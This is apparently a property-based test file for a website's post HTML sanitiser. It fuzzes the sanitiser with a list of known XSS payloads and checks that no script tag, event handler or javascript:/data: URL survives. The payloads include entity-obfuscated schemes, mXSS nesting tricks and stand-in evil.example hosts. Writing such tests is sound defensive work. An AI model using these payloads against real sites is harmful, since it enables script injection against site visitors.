// @vitest-environment jsdom
// A browser's parser, to read the output as a browser would and to run DOMPurify.
import DOMPurify from 'dompurify';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { DOMPURIFY_CONFIG, isAllowedImageSrc } from '../../schemas/html-allow-list';
import { postSanitizer } from './sanitize';

const IMAGE = '/api/uploads/images/0f8c2a4e-1b2c-4d5e-8f90-a1b2c3d4e5f6.jpg';
const purify = DOMPurify(window);
let sanitizePostHtml: (html: string) => string;
beforeAll(async () => {
  sanitizePostHtml = await postSanitizer();
});

/** The sanitised HTML as a browser parses it. */
const parse = (html: string) => {
  const template = window.document.createElement('template');
  template.innerHTML = html;
  return template.content;
};

const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'srcset',
  'poster',
  'cite',
  'background',
  'data',
  'srcdoc',
]);

/** Everything hostile the property looks for in what came out. */
function hostileParts(html: string): string[] {
  const found: string[] = [];
  for (const element of parse(html).querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (['script', 'style', 'iframe', 'object', 'embed', 'form', 'svg', 'math', 'base', 'meta', 'link', 'template'].includes(tag))
      found.push(`<${tag}>`);
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on') || name === 'style' || name === 'srcset' || name === 'formaction' || name === 'xlink:href')
        found.push(`${tag}[${name}]`);
      // What the browser would follow, after it decodes entities and drops control characters.
      const url = attribute.value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
      if (URL_ATTRIBUTES.has(name) && /^(javascript|data|vbscript):/.test(url)) found.push(`${tag}[${name}=${url.slice(0, 20)}]`);
    }
    if (tag === 'img' && !isAllowedImageSrc(element.getAttribute('src') ?? ''))
      found.push(`img[src=${element.getAttribute('src')}]`);
  }
  return found;
}

const hostileFragment = fc.oneof(
  fc.constantFrom(
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    `<img src="${IMAGE}" onload="alert(1)" srcset="https://evil.example/a.png 2x">`,
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<style>body{background:url(javascript:alert(1))}</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<div onmouseover="alert(1)">x</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert(1)</script></template>',
    '<!--<img src=x onerror=alert(1)>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<a href="/services" onclick="alert(1)">ok</a>',
    '"><script>alert(1)</script>',
    '</p><script>alert(1)</script><p>',
  ),
  fc.string({ maxLength: 20 }),
  fc.constantFrom('<', '>', '"', "'", '&', '=', '/', '<p', '<a ', 'href=', ' on', 'javascript:', '<img '),
  // Allowed elements with arbitrary attributes, hostile or not.
  fc
    .tuple(
      fc.constantFrom('p', 'a', 'img', 'h2', 'li', 'blockquote', 'div', 'span', 'script', 'iframe'),
      fc.constantFrom('onclick', 'onerror', 'style', 'href', 'src', 'title', 'srcset', 'alt', 'class'),
      fc.constantFrom('alert(1)', 'javascript:alert(1)', 'data:text/html,x', IMAGE, '/services', 'https://example.com', 'x'),
    )
    .map(([tag, attribute, value]) => `<${tag} ${attribute}="${value}">text</${tag}>`),
);

describe('the post sanitiser', () => {
  it('lets nothing hostile through, whatever mix of fragments it gets', () => {
    fc.assert(
      fc.property(fc.array(hostileFragment, { maxLength: 12 }), (fragments) => {
        const clean = sanitizePostHtml(fragments.join(''));
        expect(hostileParts(clean)).toEqual([]);
      }),
      { numRuns: 600 },
    );
  });

  it('gives what the browser renderer keeps: DOMPurify with the shared list removes nothing from it, and it is stable', () => {
    /** Every element with its attributes, as a browser parses the HTML. */
    const signature = (html: string) =>
      [...parse(html).querySelectorAll('*')]
        .map((element) => `${element.tagName}[${[...element.attributes].map((a) => `${a.name}=${a.value}`).join(' ')}]`)
        .sort();
    fc.assert(
      fc.property(fc.array(hostileFragment, { maxLength: 8 }), (fragments) => {
        const clean = sanitizePostHtml(fragments.join(''));
        expect(sanitizePostHtml(clean)).toBe(clean);
        expect(signature(purify.sanitize(clean, { ...DOMPURIFY_CONFIG }))).toEqual(signature(clean));
      }),
      { numRuns: 300 },
    );
  });

  it('keeps headings, lists, links, bold and italic, quotes and images from our own uploads', () => {
    const html =
      '<h2>Heading</h2><h3>Sub</h3><p>Some <strong>bold</strong>, <b>b</b>, <em>italic</em>, <i>i</i> and <a href="https://aws.amazon.com/" title="AWS">a link</a>, ' +
      '<a href="/services">a local one</a>, <a href="mailto:hello@example.com">mail</a>.</p>' +
      '<ul><li>One</li><li>Two</li></ul><ol start="3"><li>Three</li></ol><blockquote><p>Quoted</p></blockquote>' +
      `<figure><img src="${IMAGE}" alt="A photo" width="960" height="640" /><figcaption>Caption</figcaption></figure><pre><code>npm test</code></pre>`;
    // Written back as HTML, not XHTML: a void element has no closing slash.
    expect(sanitizePostHtml(html)).toBe(html.replace(' />', '>'));
  });

  it('turns a heading 1 into a heading 2: the page title is the one h1', () => {
    expect(sanitizePostHtml('<h1>Big</h1>')).toBe('<h2>Big</h2>');
  });
});
